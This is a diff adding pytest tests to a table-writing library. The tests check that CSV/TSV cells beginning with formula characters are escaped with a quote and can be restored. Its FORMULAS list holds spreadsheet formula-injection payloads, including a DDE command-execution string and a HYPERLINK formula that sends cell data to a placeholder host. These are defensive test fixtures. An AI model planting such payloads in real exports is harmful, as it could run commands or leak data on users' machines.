@@ -6,6 +6,7 @@ import decimal
 import io
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -16,10 +17,13 @@ import pandas as pd
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from io_files import read
-from protosieve.errors import OutputError, ProtosieveError
-from protosieve.io import check_output, write_table
+from protosieve.errors import OutputError, ProtosieveError, ProtosieveWarning
+from protosieve.io import check_output, read_result, write_table
+from protosieve.io._formulas import escaped
 
 ENDINGS = ["parquet", "arrow", "csv", "tsv", "jsonl", "json", "npz"]
 PROVENANCE = {"version": "1", "seed": 0, "residual": 0.25, "files": ["ä.csv"], "nan": float("nan")}
@@ -216,6 +220,90 @@ def test_the_same_result_is_the_same_bytes(ending, table, tmp_path, monkeypatch)
     monkeypatch.setattr(time, "localtime", lambda *_: time.gmtime(later))
     write_table(table, tmp_path / f"two.{ending}", PROVENANCE)
     assert (tmp_path / f"one.{ending}").read_bytes() == (tmp_path / f"two.{ending}").read_bytes()
+
+
+# --- text that a spreadsheet would run
+
+FORMULAS = [
+    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "-A1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "=A1", "-x y",
+    '=HYPERLINK("http://x/?"&A1,"a")', "-1,5", "--1", "+49 170", "'=1+1", "''-x", "'-5", "'@name",
+]  # fmt: skip
+HARMLESS = [
+    "plain", "", "-", "+", "--", "@", "===", "-2.5", "+1e-5", "-.5", "-inf", "007", "@name", "a=1", " =1", "'", "'tis",
+    "a\rb", "(-1)", None,
+]  # fmt: skip
+RUN_BY_SPREADSHEETS = tuple("=+-@\t\r\n")
+
+
+def unescaped(cell):
+    """As docs/formats.md says."""
+    return re.sub(r"^'(?='*[=+\-@\t\r\n])", "", cell)
+
+
+def cells_of(path, separator):
+    """As the standard library reads them."""
+    with path.open(newline="") as file:
+        return list(csv.reader(file, delimiter=separator))
+
+
+@pytest.mark.parametrize(("ending", "separator"), [("csv", ","), ("tsv", "\t")])
+def test_text_that_a_spreadsheet_would_run_is_marked_and_comes_back(ending, separator, tmp_path):
+    path = tmp_path / f"out.{ending}"
+    with pytest.warns(ProtosieveWarning, match=r"^20 cells of text would be run .* such as '=name': written with '"):
+        write_table(pa.table({"=name": FORMULAS, "row": range(len(FORMULAS))}), path, {})
+    header, *rows = cells_of(path, separator)
+    assert not any(cell.startswith(RUN_BY_SPREADSHEETS) for cell, _ in rows)
+    assert header == ["'=name", "row"]
+    assert [unescaped(cell) for cell, _ in rows] == FORMULAS
+    assert [row["row"] for row in read(path)[1]] == [str(i) for i in range(len(FORMULAS))]  # no line is broken
+    assert [unescaped(row["'=name"]) for row in read(path)[1]] == FORMULAS
+
+
+@pytest.mark.filterwarnings("error")
+def test_all_other_text_is_written_as_it_is(tmp_path):
+    write_table(pa.table({"@timestamp": HARMLESS, "row": range(len(HARMLESS))}), tmp_path / "out.csv", {})
+    assert [cell for cell, _ in cells_of(tmp_path / "out.csv", ",")] == [
+        "@timestamp",
+        *(text or "" for text in HARMLESS),
+    ]
+    assert [unescaped(text) for text in HARMLESS if text is not None] == [text for text in HARMLESS if text is not None]
+
+
+@pytest.mark.filterwarnings("error")
+def test_what_is_no_text_is_never_marked(tmp_path):
+    columns = {
+        "whole": pa.array([-1, -(2**63)]),
+        "part": pa.array([-0.5, float("-inf")]),
+        "exact": pa.array([decimal.Decimal("-1.10"), None]),
+        "bytes": pa.array([b"\xfb\xef\xbe", None]),  # ++++ in base64
+        "early": pa.array([-(10**6), None], pa.date32()),  # before the year 0
+    }
+    write_table(pa.table(columns), tmp_path / "out.csv", {})
+    rows = cells_of(tmp_path / "out.csv", ",")[1:]
+    assert rows == [
+        ["-1", "-0.5", "-1.10", "++++", str(np.datetime64(-(10**6), "D"))],
+        [str(-(2**63)), "-inf", "", "", ""],
+    ]
+
+
+def test_categories_are_text_too(tmp_path):
+    with pytest.warns(ProtosieveWarning, match=r"^2 cells of text"):
+        write_table(pa.table({"kind": pa.array(["=1", "=1", "b"]).dictionary_encode()}), tmp_path / "out.csv", {})
+    assert cells_of(tmp_path / "out.csv", ",")[1:] == [["'=1"], ["'=1"], ["b"]]
+
+
+@given(st.text(alphabet="'=+-@\t\r\n1a.e ", max_size=6))
+def test_marks_can_always_be_taken_off(text):
+    assert unescaped(escaped(text)) == text
+
+
+@pytest.mark.filterwarnings("error")
+@pytest.mark.parametrize("ending", ["parquet", "arrow", "json", "npz"])
+def test_formats_with_types_keep_formulas_as_text(ending, tmp_path):
+    path = tmp_path / f"out.{ending}"
+    table = pa.table({"name": FORMULAS})
+    write_table(table, path, {"command": "", "version": "", "encoding": {}})
+    assert read_result(path)[0].equals(table)
 
 
 # --- where it goes
